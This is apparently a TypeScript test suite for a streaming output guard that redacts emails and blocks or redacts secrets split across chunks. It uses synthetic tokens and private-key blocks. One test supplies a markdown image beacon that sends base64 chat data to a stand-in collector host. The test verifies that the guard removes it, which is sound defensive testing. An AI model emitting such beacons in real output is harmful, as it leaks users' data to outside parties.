import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { githubToken, seeded } from '../secrets/fixtures/tokens.js';
import { createOutputGuard, createOutputStream } from './createOutputStream.js';
import { OutputBlockedError } from './OutputBlockedError.js';

async function run(chunks: readonly string[], options: Parameters<typeof createOutputStream>[0] = {}) {
  const stream = createOutputStream(options);
  const writer = stream.writable.getWriter();
  const reader = stream.readable.getReader();
  const received: string[] = [];
  const reading = (async () => {
    for (;;) {
      const { done, value } = await reader.read();
      if (done) return;
      received.push(value);
    }
  })();
  let writeError: unknown;
  try {
    for (const chunk of chunks) await writer.write(chunk);
    await writer.close();
  } catch (e) {
    writeError = e;
  }
  let readError: unknown;
  try {
    await reading;
  } catch (e) {
    readError = e;
  }
  // The reader sees the error the guard raised; the writer may only see the closed state.
  return { text: received.join(''), error: readError ?? writeError, report: stream.report() };
}

const TOKEN = githubToken(seeded(7));
const PREFIX = 'Sure, here is the configuration you asked for. ';
const SUFFIX = ' Let me know if you need anything else.';

describe('createOutputStream', () => {
  it('passes clean text through unchanged, whatever the chunking', async () => {
    const text = 'The quick brown fox jumps over the lazy dog. '.repeat(20);
    const chunks = text.match(/.{1,7}/gs) ?? [];
    const result = await run(chunks);
    expect(result.error).toBeUndefined();
    expect(result.text).toBe(text);
    expect(result.report.lane).toBe('auto');
  });

  it('redacts PII split across chunks', async () => {
    const text = 'Write to jane.doe@example.com today.';
    const result = await run(['Write to jane.d', 'oe@exam', 'ple.com today.']);
    expect(result.text).toBe(text.replace('jane.doe@example.com', '[EMAIL_ADDRESS]'));
  });

  it('stops a secret split over every possible chunk boundary before any of it is released (property)', async () => {
    const text = `${PREFIX}token: ${TOKEN}${SUFFIX}`;
    const tokenAt = text.indexOf(TOKEN);
    await fc.assert(
      fc.asyncProperty(
        fc.uniqueArray(fc.integer({ min: 1, max: text.length - 1 }), { maxLength: 6 }),
        async (cuts) => {
          const sorted = [...cuts].sort((a, b) => a - b);
          const chunks: string[] = [];
          let from = 0;
          for (const c of sorted) {
            chunks.push(text.slice(from, c));
            from = c;
          }
          chunks.push(text.slice(from));
          const result = await run(chunks);
          expect(result.error).toBeInstanceOf(OutputBlockedError);
          expect((result.error as OutputBlockedError).code).toBe('ERR_OUTPUT_BLOCKED');
          expect(result.report.blocked).toBe(true);
          expect(result.report.findings.some((f) => f.category === 'secret')).toBe(true);
          // Nothing from the token on was released, and not even its first characters.
          expect(result.text.length).toBeLessThanOrEqual(tokenAt);
          expect(result.text).not.toContain(TOKEN.slice(0, 8));
          expect(JSON.stringify((result.error as OutputBlockedError).findings)).not.toContain(TOKEN);
        },
      ),
      { numRuns: 60 },
    );
    // And every single split point, exhaustively.
    for (let cut = 1; cut < text.length; cut++) {
      const result = await run([text.slice(0, cut), text.slice(cut)]);
      expect(result.error, `cut at ${cut}`).toBeInstanceOf(OutputBlockedError);
      expect(result.text.length).toBeLessThanOrEqual(tokenAt);
    }
  });

  it('redacts instead of stopping when asked', async () => {
    const result = await run([`key ${TOKEN.slice(0, 10)}`, `${TOKEN.slice(10)} end`], { onSecret: 'redact' });
    expect(result.error).toBeUndefined();
    expect(result.text).toBe('key [SECRET] end');
  });

  it('holds an unfinished private key block and fails closed when it never ends', async () => {
    const begin = '-----BEGIN OPENSSH PRIVATE KEY-----\n';
    const body = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n'.repeat(300);
    const result = await run(['Here you go:\n', begin, ...body.match(/.{1,100}/gs)!], { maxHold: 4096 });
    expect(result.error).toBeInstanceOf(OutputBlockedError);
    expect(result.text).not.toContain('BEGIN OPENSSH');
  });

  it('waits for a private key block to end, then judges it whole, wherever the END marker is split', async () => {
    const key =
      '-----BEGIN OPENSSH PRIVATE KEY-----\n' +
      'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n'.repeat(20) +
      '-----END OPENSSH PRIVATE KEY-----\n';
    const text = `Here you go:\n${key}That is all.`;
    const endAt = text.indexOf('-----END');
    for (let split = endAt - 2; split <= endAt + 10; split += 3) {
      const chunks = [...text.slice(0, split).match(/.{1,40}/gs)!, text.slice(split)];
      const blocked = await run(chunks);
      expect(blocked.error).toBeInstanceOf(OutputBlockedError);
      expect(blocked.text).not.toContain('b3BlbnNzaC1rZXkt');
      const redacted = await run(chunks, { onSecret: 'redact' });
      expect(redacted.error).toBeUndefined();
      expect(redacted.text).not.toContain('b3BlbnNzaC1rZXkt');
      expect(redacted.text).toContain('That is all.');
    }
  });

  it('neutralises a markdown image beacon split across chunks', async () => {
    const chunks = [
      'Done! ![status](https://coll',
      'ector.example/p?d=c2VjcmV0LWRhdGEtZnJvbS1jaGF0',
      ') thanks',
    ];
    const result = await run(chunks, { sink: 'markdown' });
    expect(result.text).not.toContain('collector.example');
    expect(result.text).toContain('thanks');
  });

  it('rejects non-string chunks', async () => {
    const result = await run([new Uint8Array([1, 2]) as unknown as string]);
    expect(String(result.error)).toMatch(/chunks must be strings/);
  });
});

describe('createOutputGuard (the synchronous guard behind the stream)', () => {
  it('releases the same text as the stream for every chunking, and nothing of a secret (property)', async () => {
    const text = `${PREFIX}token: ${TOKEN}${SUFFIX}`;
    const tokenAt = text.indexOf(TOKEN);
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: text.length - 1 }), { maxLength: 8 }), (cuts) => {
        const points = [...new Set(cuts)].sort((a, b) => a - b);
        const chunks = [0, ...points].map((start, i) => text.slice(start, points[i] ?? text.length));
        const guard = createOutputGuard({ onSecret: 'block' });
        let out = '';
        let error: unknown;
        try {
          for (const chunk of chunks) out += guard.push(chunk);
          out += guard.end();
        } catch (e) {
          error = e;
        }
        expect(error).toBeInstanceOf(OutputBlockedError);
        expect(out.length).toBeLessThanOrEqual(tokenAt);
        expect(text.startsWith(out)).toBe(true);
        expect(guard.report().blocked).toBe(true);
        // Once stopped, it stays stopped.
        expect(() => guard.push('more')).toThrow(OutputBlockedError);
      }),
    );
  });

  it('redacts instead of stopping when secrets are redacted, and reports what it found', () => {
    const guard = createOutputGuard({ onSecret: 'redact' });
    const out =
      guard.push(`${PREFIX}token: ${TOKEN.slice(0, 10)}`) +
      guard.push(`${TOKEN.slice(10)}${SUFFIX}`) +
      guard.end();
    expect(out).not.toContain(TOKEN);
    expect(out.startsWith(PREFIX)).toBe(true);
    expect(out.endsWith(SUFFIX)).toBe(true);
    expect(guard.report().findings.some((f) => f.category === 'secret')).toBe(true);
  });
});
